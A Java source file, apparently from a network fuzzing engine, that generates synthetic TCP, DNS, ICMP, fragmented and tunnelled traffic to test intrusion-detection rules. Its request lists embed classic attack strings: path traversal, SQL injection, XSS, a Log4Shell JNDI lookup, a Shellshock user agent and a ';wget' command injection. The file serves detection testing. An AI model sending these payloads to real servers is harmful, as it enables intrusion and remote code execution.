package dev.sluice.engine.mutation;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

import static dev.sluice.engine.mutation.RawPackets.*;

/**
 * Conversations made from scratch, each from a {@link Random}: TCP sessions (handshake with
 * options, HTTP, TLS hellos or junk, both ways, close) over IPv4 or IPv6, DNS over UDP, ICMP and
 * ICMPv6 (echo, errors quoting a packet, neighbour discovery), IPv4 with options, IPv6 with
 * extension headers, fragmented datagrams (in and out of order, overlapping), and tunnels. The
 * client sits outside HOME_NET and the server inside, so ET Open's inbound rules apply.
 */
final class BuiltConversations {
    private final Random r;

    BuiltConversations(Random r) {
        this.r = r;
    }

    private static final String[] URIS = {"/", "/index.html", "/cgi-bin/../../etc/passwd", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users", "/search?q=<script>alert(1)</script>", "/wp-login.php",
        "/phpmyadmin/index.php", "/%2e%2e/%2e%2e/boot.ini", "/x?cmd=;wget%20http://x/a.sh", "/.git/config", "/${jndi:ldap://x/a}"};
    private static final String[] AGENTS = {"Mozilla/5.0", "sqlmap/1.5", "Nikto/2.1.6", "curl/7.88", "python-requests/2.31", "() { :; }; /bin/bash -c id"};
    private static final String[] HOSTS = {"www.example.com", "evil.example", "update.microsoft.com", "a.b.c.d.e.f", "xn--80ak6aa92e.com", ""};

    /** One conversation of a randomly chosen kind. */
    List<byte[]> next() {
        return switch (r.nextInt(9)) {
            case 0, 1, 2 -> tcpSession();
            case 3 -> dns();
            case 4 -> icmpConversation();
            case 5 -> fragmented();
            case 6 -> ipv4WithOptions();
            case 7 -> ipv6WithExtensions();
            default -> tunnels();
        };
    }

    // ------------------------------------------------------------------ endpoints

    private boolean v6;
    private byte[] client;
    private byte[] server;

    private void endpoints() {
        v6 = r.nextInt(3) == 0;
        if (v6) {
            client = new byte[16];
            server = new byte[16];
            client[0] = 0x20;
            client[1] = 0x01;
            client[2] = 0x0d;
            client[3] = (byte) 0xb8;
            client[15] = (byte) r.nextInt(256);
            client[14] = (byte) r.nextInt(256);
            server[0] = (byte) 0xfd;
            server[15] = (byte) (1 + r.nextInt(4));
        } else {
            client = new byte[] {(byte) 203, 0, 113, (byte) r.nextInt(256)};
            server = new byte[] {10, 1, (byte) r.nextInt(4), (byte) (1 + r.nextInt(8))};
        }
    }

    private byte[] ip(byte[] src, byte[] dst, int proto, byte[] l4) {
        return v6 ? ipv6(src, dst, new int[0], new byte[0][], proto, l4)
                : ipv4(src, dst, proto, r.nextInt(0x10000), r.nextInt(4) == 0 ? 0x4000 : 0, 64, null, l4);
    }

    // ------------------------------------------------------------------ TCP

    private List<byte[]> tcpSession() {
        endpoints();
        List<byte[]> out = new ArrayList<>();
        int cport = 1024 + r.nextInt(60000);
        int sport = new int[] {80, 80, 8080, 443, 443, 53, 25, 21, 4444, 1 + r.nextInt(65535)}[r.nextInt(10)];
        long cseq = r.nextInt() & 0xffffffffL;
        long sseq = r.nextInt() & 0xffffffffL;
        boolean handshake = r.nextInt(6) != 0; // else it starts midstream
        if (handshake) {
            out.add(ip(client, server, TCP, tcp(cport, sport, cseq, 0, SYN, 64240, Mutator.tcpOptions(r), new byte[0])));
            out.add(ip(server, client, TCP, tcp(sport, cport, sseq, cseq + 1, SYN | ACK, 65160, Mutator.tcpOptions(r), new byte[0])));
            out.add(ip(client, server, TCP, tcp(cport, sport, cseq + 1, sseq + 1, ACK, 502, null, new byte[0])));
        }
        cseq++;
        sseq++;
        byte[] request = request(sport);
        byte[] response = response(sport);
        int rounds = 1 + r.nextInt(3);
        for (int round = 0; round < rounds; round++) {
            cseq = segments(out, client, server, cport, sport, cseq, sseq, request);
            sseq = segments(out, server, client, sport, cport, sseq, cseq, response);
        }
        if (r.nextInt(4) == 0) {
            out.add(ip(client, server, TCP, tcp(cport, sport, cseq, sseq, RST | ACK, 0, null, new byte[0])));
        } else {
            out.add(ip(client, server, TCP, tcp(cport, sport, cseq, sseq, FIN | ACK, 502, null, new byte[0])));
            out.add(ip(server, client, TCP, tcp(sport, cport, sseq, cseq + 1, FIN | ACK, 502, null, new byte[0])));
            out.add(ip(client, server, TCP, tcp(cport, sport, cseq + 1, sseq + 1, ACK, 502, null, new byte[0])));
        }
        return out;
    }

    /** {@code data} as segments of random sizes, now and then out of order or overlapping; returns the next seq. */
    private long segments(List<byte[]> out, byte[] src, byte[] dst, int sp, int dp, long seq, long ack, byte[] data) {
        List<byte[]> segs = new ArrayList<>();
        int off = 0;
        while (off < data.length && segs.size() < 64) {
            int n = Math.min(data.length - off, 1 + r.nextInt(r.nextBoolean() ? 24 : 1400));
            int back = r.nextInt(8) == 0 ? Math.min(off, r.nextInt(8)) : 0; // overlap the previous segment
            byte[] payload = java.util.Arrays.copyOfRange(data, off - back, off + n);
            segs.add(ip(src, dst, TCP, tcp(sp, dp, seq + off - back, ack, ACK | PSH, 502, r.nextInt(8) == 0 ? Mutator.tcpOptions(r) : null, payload)));
            off += n;
        }
        if (segs.size() > 1 && r.nextInt(5) == 0) {
            Collections.swap(segs, r.nextInt(segs.size()), r.nextInt(segs.size()));
        }
        out.addAll(segs);
        return seq + off;
    }

    private byte[] request(int port) {
        if (port == 443) {
            return clientHello();
        }
        if (port == 53) {
            byte[] q = dnsMessage(false);
            byte[] b = new byte[q.length + 2];
            put16(b, 0, q.length);
            System.arraycopy(q, 0, b, 2, q.length);
            return b;
        }
        if (port == 80 || port == 8080 || r.nextBoolean()) {
            String method = new String[] {"GET", "POST", "PUT", "HEAD", "OPTIONS", "CONNECT", "G\0ET"}[r.nextInt(7)];
            String body = method.equals("POST") ? "user=admin&pass=' or 1=1--" : "";
            StringBuilder s = new StringBuilder(method + " " + URIS[r.nextInt(URIS.length)] + " HTTP/1." + r.nextInt(2) + "\r\n");
            s.append("Host: ").append(HOSTS[r.nextInt(HOSTS.length)]).append("\r\n");
            s.append("User-Agent: ").append(AGENTS[r.nextInt(AGENTS.length)]).append("\r\n");
            if (r.nextBoolean()) {
                s.append("Cookie: session=").append(r.nextInt()).append("\r\n");
            }
            if (!body.isEmpty()) {
                s.append(r.nextBoolean() ? "Content-Length: " + body.length() + "\r\n" : "Transfer-Encoding: chunked\r\n");
            }
            s.append("\r\n").append(body);
            return ascii(s.toString());
        }
        return Mutator.randomBytes(r, 1 + r.nextInt(300));
    }

    private byte[] response(int port) {
        if (port == 443) {
            return serverHello();
        }
        if (port == 80 || port == 8080 || r.nextBoolean()) {
            String body = "<html><body>" + "x".repeat(r.nextInt(200)) + "</body></html>";
            boolean chunked = r.nextBoolean();
            String s = "HTTP/1.1 " + new String[] {"200 OK", "404 Not Found", "301 Moved", "500 Oops", "100 Continue"}[r.nextInt(5)]
                    + "\r\nServer: Apache\r\nContent-Type: text/html\r\n"
                    + (chunked ? "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length()) + "\r\n" + body + "\r\n0\r\n\r\n"
                    : "Content-Length: " + body.length() + "\r\n\r\n" + body);
            return ascii(s);
        }
        return Mutator.randomBytes(r, 1 + r.nextInt(300));
    }

    private byte[] clientHello() {
        String sni = HOSTS[r.nextInt(HOSTS.length)];
        byte[] name = ascii(sni);
        byte[] sniExt = new byte[9 + name.length];
        put16(sniExt, 0, 0);
        put16(sniExt, 2, 5 + name.length);
        put16(sniExt, 4, 3 + name.length);
        sniExt[6] = 0;
        put16(sniExt, 7, name.length);
        System.arraycopy(name, 0, sniExt, 9, name.length);
        byte[] exts = cat(sniExt, new byte[] {0x00, 0x0a, 0x00, 0x04, 0x00, 0x02, 0x00, 0x1d, 0x00, 0x0b, 0x00, 0x02, 0x01, 0x00});
        byte[] body = cat(new byte[] {0x03, 0x03}, Mutator.randomBytes(r, 32), new byte[] {0},
                new byte[] {0x00, 0x04, 0x13, 0x01, (byte) 0xc0, 0x2f}, new byte[] {0x01, 0x00},
                new byte[] {(byte) (exts.length >>> 8), (byte) exts.length}, exts);
        return record(0x16, cat(new byte[] {0x01, 0, (byte) (body.length >>> 8), (byte) body.length}, body));
    }

    private byte[] serverHello() {
        byte[] hello = cat(new byte[] {0x03, 0x03}, Mutator.randomBytes(r, 32), new byte[] {0, 0x13, 0x01, 0, 0, 0});
        byte[] sh = cat(new byte[] {0x02, 0, (byte) (hello.length >>> 8), (byte) hello.length}, hello);
        // A certificate message whose one certificate is a sliver of DER: a SEQUENCE with a CN.
        byte[] der = cat(new byte[] {0x30, (byte) 0x82, 0x00, 0x20, 0x30, 0x1e, 0x31, 0x1c, 0x30, 0x1a, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x13},
                ascii("CN=www.example.com"), new byte[] {0}, Mutator.randomBytes(r, r.nextInt(16)));
        byte[] certs = cat(new byte[] {0, 0, (byte) (der.length + 3), 0, 0, (byte) der.length}, der);
        byte[] cm = cat(new byte[] {0x0b, 0, (byte) (certs.length >>> 8), (byte) certs.length}, certs);
        return cat(record(0x16, sh), record(0x16, cm), r.nextBoolean() ? record(0x17, Mutator.randomBytes(r, 40)) : new byte[0]);
    }

    private static byte[] record(int type, byte[] body) {
        return cat(new byte[] {(byte) type, 0x03, 0x03, (byte) (body.length >>> 8), (byte) body.length}, body);
    }

    // ------------------------------------------------------------------ UDP / DNS

    private List<byte[]> dns() {
        endpoints();
        List<byte[]> out = new ArrayList<>();
        int cport = 1024 + r.nextInt(60000);
        int n = 1 + r.nextInt(3);
        for (int i = 0; i < n; i++) {
            out.add(ip(client, server, UDP, udp(cport, 53, dnsMessage(false))));
            out.add(ip(server, client, UDP, udp(53, cport, dnsMessage(true))));
        }
        return out;
    }

    private byte[] dnsMessage(boolean response) {
        java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
        int answers = response ? r.nextInt(3) : 0;
        b.writeBytes(new byte[] {(byte) r.nextInt(256), (byte) r.nextInt(256), (byte) (response ? 0x81 : 0x01),
            (byte) (response ? 0x80 | r.nextInt(6) : 0), 0, 1, 0, (byte) answers, 0, 0, 0, 0});
        String[] labels = {"www", "example", "com", "bad" + r.nextInt(100), "a".repeat(63), "xn--p1ai", "_sip", "tunnel"};
        int k = 1 + r.nextInt(4);
        for (int i = 0; i < k; i++) {
            byte[] l = ascii(labels[r.nextInt(labels.length)]);
            b.write(l.length);
            b.writeBytes(l);
        }
        b.write(0);
        b.writeBytes(new byte[] {0, (byte) new int[] {1, 28, 16, 15, 255, 5}[r.nextInt(6)], 0, 1});
        for (int i = 0; i < answers; i++) {
            // Names by compression pointer: to the question, or (now and then) to themselves.
            b.writeBytes(r.nextInt(6) == 0 ? new byte[] {(byte) 0xc0, (byte) (b.size() & 0xff)} : new byte[] {(byte) 0xc0, 0x0c});
            b.writeBytes(new byte[] {0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4});
            b.writeBytes(Mutator.randomBytes(r, 4));
        }
        return b.toByteArray();
    }

    // ------------------------------------------------------------------ ICMP

    private List<byte[]> icmpConversation() {
        endpoints();
        List<byte[]> out = new ArrayList<>();
        byte[] quoted = ip(client, server, TCP, tcp(40000, 80, r.nextInt(), 0, SYN, 1024, null, new byte[0]));
        quoted = java.util.Arrays.copyOf(quoted, Math.min(quoted.length, (v6 ? 40 : 20) + 8 + r.nextInt(20)));
        if (v6) {
            out.add(ip(client, server, ICMPV6, icmp(128, 0, r.nextInt(), Mutator.randomBytes(r, r.nextInt(64)))));
            out.add(ip(server, client, ICMPV6, icmp(129, 0, r.nextInt(), Mutator.randomBytes(r, r.nextInt(64)))));
            out.add(ip(server, client, ICMPV6, icmp(new int[] {1, 2, 3, 4}[r.nextInt(4)], r.nextInt(5), 1280, quoted)));
            out.add(ip(client, server, ICMPV6, icmp(135, 0, 0, cat(server, new byte[] {1, 1, 0, 0, 0, 0, 0, 1}))));
            out.add(ip(server, client, ICMPV6, icmp(134, 0, 0x40000708L, Mutator.randomBytes(r, 8 + r.nextInt(24)))));
        } else {
            out.add(ip(client, server, ICMP, icmp(8, 0, r.nextInt(), Mutator.randomBytes(r, r.nextInt(64)))));
            out.add(ip(server, client, ICMP, icmp(0, 0, r.nextInt(), Mutator.randomBytes(r, r.nextInt(64)))));
            out.add(ip(server, client, ICMP, icmp(new int[] {3, 11, 5, 12, 4}[r.nextInt(5)], r.nextInt(16), 0, quoted)));
            out.add(ip(client, server, ICMP, icmp(r.nextInt(256), r.nextInt(256), r.nextInt(), Mutator.randomBytes(r, r.nextInt(16)))));
        }
        return out;
    }

    // ------------------------------------------------------------------ fragments

    private List<byte[]> fragmented() {
        endpoints();
        boolean isUdp = r.nextBoolean();
        byte[] l4 = isUdp ? udp(1024 + r.nextInt(60000), 53, cat(dnsMessage(false), Mutator.randomBytes(r, r.nextInt(600))))
                : icmp(v6 ? 128 : 8, 0, r.nextInt(), Mutator.randomBytes(r, 64 + r.nextInt(1500)));
        int proto = isUdp ? UDP : v6 ? ICMPV6 : ICMP;
        byte[] whole = v6 ? ipv6(client, server, new int[0], new byte[0][], proto, l4)
                : ipv4(client, server, proto, r.nextInt(0x10000), 0, 64, null, l4);
        List<byte[]> frags = v6 ? fragment6(whole, r.nextInt(), 8 + r.nextInt(600)) : fragment4(whole, 8 + r.nextInt(600));
        frags = new ArrayList<>(frags);
        switch (r.nextInt(4)) {
            case 0 -> Collections.reverse(frags);
            case 1 -> Collections.shuffle(frags, r);
            case 2 -> {
                if (!frags.isEmpty()) {
                    frags.add(r.nextInt(frags.size()), frags.get(r.nextInt(frags.size())).clone());
                }
            }
            default -> { }
        }
        return frags;
    }

    // ------------------------------------------------------------------ options and extension headers

    private List<byte[]> ipv4WithOptions() {
        endpoints();
        if (v6) {
            return ipv6WithExtensions();
        }
        List<byte[]> out = new ArrayList<>();
        int n = 2 + r.nextInt(4);
        for (int i = 0; i < n; i++) {
            boolean isUdp = r.nextBoolean();
            byte[] l4 = isUdp ? udp(5000 + i, 53, dnsMessage(false))
                    : tcp(40000 + i, 80, r.nextInt(), 0, SYN, 1024, Mutator.tcpOptions(r), new byte[0]);
            int proto = isUdp ? UDP : TCP;
            out.add(ipv4(client, server, proto, r.nextInt(0x10000), 0, 1 + r.nextInt(255), Mutator.ipOptions(r), l4));
        }
        return out;
    }

    private List<byte[]> ipv6WithExtensions() {
        v6 = true;
        endpoints();
        v6 = true;
        if (client.length != 16) {
            client = new byte[16];
            client[0] = 0x20;
            client[1] = 0x01;
            client[15] = 9;
            server = new byte[16];
            server[0] = (byte) 0xfd;
            server[15] = 1;
        }
        List<byte[]> out = new ArrayList<>();
        int n = 2 + r.nextInt(4);
        for (int i = 0; i < n; i++) {
            int k = 1 + r.nextInt(3);
            int[] types = new int[k];
            byte[][] ext = new byte[k][];
            for (int j = 0; j < k; j++) {
                types[j] = new int[] {HOP_BY_HOP, DEST_OPTS, ROUTING, FRAGMENT}[r.nextInt(4)];
                if (types[j] == HOP_BY_HOP && j > 0) {
                    types[j] = DEST_OPTS;
                }
                ext[j] = switch (types[j]) {
                    case ROUTING -> cat(new byte[] {0, 0, (byte) (r.nextBoolean() ? 2 : 0), 1, 0, 0, 0, 0}, server);
                    case FRAGMENT -> new byte[] {0, 0, 0, 0, 0, 0, 0, (byte) r.nextInt(256)};
                    default -> new byte[] {0, 0, 5, 2, 0, 0, 1, 0}; // router alert, then PadN
                };
            }
            boolean isUdp = r.nextBoolean();
            byte[] l4 = isUdp ? udp(5000 + i, 53, dnsMessage(false))
                    : tcp(40000 + i, 80, r.nextInt(), 0, SYN, 1024, Mutator.tcpOptions(r), new byte[0]);
            int proto = isUdp ? UDP : TCP;
            out.add(ipv6(client, server, types, ext, proto, l4));
        }
        return out;
    }

    // ------------------------------------------------------------------ tunnels

    private List<byte[]> tunnels() {
        v6 = false;
        byte[] a = {(byte) 198, 51, 100, 1};
        byte[] b = {10, 9, 0, 1};
        byte[] inner = ipv4(new byte[] {(byte) 203, 0, 113, 7}, new byte[] {10, 2, 0, 5}, TCP, 1, 0, 64, null,
                tcp(40001, 80, 1000, 0, ACK | PSH, 512, null, request(80)));
        byte[] inner6 = ipv6(new byte[] {0x20, 0x01, 0x0d, (byte) 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7}, new byte[] {(byte) 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5},
                new int[0], new byte[0][], UDP, udp(5353, 53, dnsMessage(false)));
        List<byte[]> out = new ArrayList<>();
        out.add(ipv4(a, b, 4, 1, 0, 64, null, inner));
        out.add(ipv4(a, b, 41, 2, 0, 64, null, inner6));
        out.add(ipv4(a, b, 47, 3, 0, 64, null, cat(new byte[] {0, 0, 0x08, 0x00}, inner)));
        out.add(ipv4(a, b, UDP, 4, 0, 64, null, udp(3544, 3544, inner6)));
        out.add(ipv4(a, b, UDP, 5, 0, 64, null, udp(40000, 4789, cat(new byte[] {0x08, 0, 0, 0, 0, 0, 0x10, 0},
                new byte[] {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0x08, 0x00}, inner))));
        return out;
    }
}
